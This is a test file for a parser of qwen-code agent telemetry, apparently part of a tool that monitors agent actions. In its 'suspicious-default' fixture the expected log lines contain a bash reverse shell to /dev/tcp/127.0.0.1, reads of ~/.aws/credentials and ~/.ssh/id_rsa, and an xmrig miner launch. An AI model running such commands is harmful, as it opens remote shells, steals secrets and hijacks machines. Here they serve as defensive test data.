import { fixture, line, step, tell } from '../../test/support/recorded';

describe('by default', () => {
  const { events, ignored } = tell(fixture('qwen-code/suspicious-default'));

  it('joins log and span by the call id, with the exit code out of the error text', () => {
    expect(step(events, 1)).toEqual([
      "tool_call failed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (error, exit 1)",
      'qwen-code.tool failed: exec (error)',
    ]);
    expect(step(events, 2)[0]).toBe('tool_call completed: file.read path=/home/dev/.aws/credentials (ok)');
    expect(step(events, 5)[0]).toBe(
      'tool_call failed: exec command=./xmrig -o stratum+tcp://127.0.0.1:3333 -u x (error, exit 127)',
    );
  });

  it('executes no command of a repeated conversation', () => {
    const reads = events.filter(({ action }) => action.type === 'exec' && action.command === 'cat ~/.ssh/id_rsa');
    expect(reads.map(line)).toEqual(['tool_call completed: exec command=cat ~/.ssh/id_rsa (ok)']);
    expect(ignored).toContainEqual({ dialect: 'qwen-code', reason: 'repeated conversation', count: 1 });
  });

  it('names the setting that shows outputs, once per call that has one', () => {
    const span = events.find(({ source, phase }) => source.record === 'qwen-code.tool' && phase === 'completed');
    expect(span?.visibility).toContainEqual({
      field: 'outcome.output',
      state: 'hidden',
      setting: 'telemetry.includeSensitiveSpanAttributes: true',
    });
  });

  it('takes hook spans, which are errors without any hook, for nothing', () => {
    expect(ignored).toContainEqual({ dialect: 'qwen-code', reason: 'hook', count: 1 });
  });

  it('turns percent and bytes of the agent itself into samples', () => {
    const samples = events.flatMap(({ action }) => (action.type === 'resource.sample' ? [action] : []));
    expect(samples.map(({ metric, unit, series }) => `${metric} ${unit} ${series}`)).toEqual([
      'process.memory.usage bytes memory_type=rss',
      'process.memory.usage bytes memory_type=heap_used',
      'process.cpu.utilization ratio ',
    ]);
    expect(samples[2]?.value).toBeCloseTo(0.3477, 3);
  });

  it('starts and stops the session', () => {
    const kinds = events.map(({ action }) => action.type);
    expect(kinds.filter((kind) => kind === 'session.start')).toHaveLength(1);
    expect(kinds.filter((kind) => kind === 'session.stop')).toHaveLength(1);
  });
});

describe('with content on spans', () => {
  const { events } = tell(fixture('qwen-code/benign-full'));

  it('tells the same act by log and span, with output and exit code', () => {
    expect(step(events, 13).sort()).toEqual([
      'qwen-code.tool failed: exec command=ls no-such-dir; exit 3 (error)',
      'tool_call failed: exec command=ls no-such-dir; exit 3 (error, exit 3)',
    ]);
    const listing = events.find(
      (event) => line(event) === 'qwen-code.tool completed: exec command=ls -la (ok, exit 0)',
    );
    expect(listing?.outcome?.output).toContain('Exit Code: 0');
  });

  it('reads edits and sub-agents', () => {
    expect(step(events, 5)).toContain(
      'tool_call completed: file.write path=/home/dev/project/src/calc.js content=  return a + b; removed=  return a - b; // bug edit=true (ok)',
    );
    expect(events.map(line)).toEqual(
      expect.arrayContaining([
        'subagent_execution started: agent.spawn agentType=general-purpose',
        'subagent_execution completed: agent.spawn agentType=general-purpose (ok)',
      ]),
    );
  });
});
